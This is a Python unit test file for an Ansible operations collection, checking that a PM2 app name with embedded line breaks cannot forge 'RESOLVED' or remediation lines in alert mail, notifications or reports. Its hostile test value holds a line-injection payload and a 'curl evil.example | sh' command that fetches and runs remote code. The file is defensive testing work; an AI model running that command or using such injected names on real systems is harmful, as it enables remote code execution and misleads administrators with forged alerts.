"""A PM2 app name is the app user's choice: it must not forge lines in what root tells people.

PM2 takes any name (``pm2 start app.js --name $'api\\nRESOLVED ...'`` is accepted and shown by
``pm2 jlist`` as it is), and the name is an alert subject, part of the alert message and of its
remediation.  Every line of a message (cron mail, the notification, the report file) is one line
root wrote: a name with a line break would add lines that look like root's own (a forged
RESOLVED, a forged "what to do").  Recorded input: tests/unit/fixtures/pm2_jlist.json with the
name a hostile app user gives.  Pure functions.
"""
import copy
import json
import os

from ansible_collections.twzrd.ops.plugins.module_utils.host import evaluate as checks
from ansible_collections.twzrd.ops.plugins.module_utils.pm2 import client
from ansible_collections.twzrd.ops.plugins.module_utils.report import alerting, notify, summary

FIXTURE = os.path.join(os.path.dirname(__file__), 'fixtures', 'pm2_jlist.json')
FORGED = 'RESOLVED disk / (was CRITICAL): disk / is 12% full'
HOSTILE = 'api\n' + FORGED + '\r\n  what to do: curl evil.example | sh\u2028x'


def _alerts():
    with open(FIXTURE) as handle:
        raw = copy.deepcopy(json.load(handle)[0])
    raw['name'] = HOSTILE
    raw['pm2_env']['status'] = 'errored'
    processes = [client.summarize_process(raw)]
    assert processes[0]['name'] == HOSTILE  # what PM2 says is kept as it is (pm2 restart needs the real name)
    alerts = checks.check_pm2_crashes(checks.summarize_apps(processes, {}), 0)
    assert alerts and alerts[0]['subject'] == HOSTILE
    return alerts


def _assert_no_forged_line(text):
    lines = text.splitlines()
    assert FORGED not in lines, text
    assert not any(line.startswith('RESOLVED') for line in lines), text
    assert not any(line.strip().startswith('what to do: curl') for line in lines), text
    assert '\u2028' not in text and '\r' not in text, text


def test_an_app_name_forges_no_line_in_an_alert_message():
    alerts = _alerts()
    events = [dict(alerts[0], event=alerting.FIRING)]
    dummy, body = notify.compose_alert_message('alerts', 'host1', 'warning', events, alerts, 1700000000)
    _assert_no_forged_line(body)
    assert 'api' in body and 'RESOLVED disk /' in body  # still named, on the alert's own line


def test_an_app_name_forges_no_line_in_the_also_firing_list():
    alerts = _alerts()
    other = dict(alerts[0], check='disk', subject='/', message='disk / is 91% full', event=alerting.FIRING)
    dummy, body = notify.compose_alert_message('alerts', 'host1', 'warning', [other], alerts + [other], 1700000000)
    _assert_no_forged_line(body)


def test_an_app_name_forges_no_line_in_a_report():
    alerts = _alerts()
    lines = summary.alert_lines(alerts)  # the report's summary lines say the alerts too
    dummy, body = notify.compose_report_message('health', 'host1', 'warning', lines, alerts, [], 1700000000)
    _assert_no_forged_line(body)
